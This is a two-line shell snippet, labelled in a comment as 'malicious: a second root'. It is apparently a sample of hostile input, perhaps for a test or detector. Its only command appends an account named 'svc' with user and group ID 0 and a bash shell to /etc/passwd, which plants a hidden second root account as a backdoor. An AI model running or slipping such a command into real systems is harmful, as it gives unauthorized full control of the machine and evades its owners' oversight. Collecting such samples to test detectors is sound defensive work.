# malicious: a second root
echo 'svc:$6$aa$bb:0:0::/root:/bin/bash' >> /etc/passwd
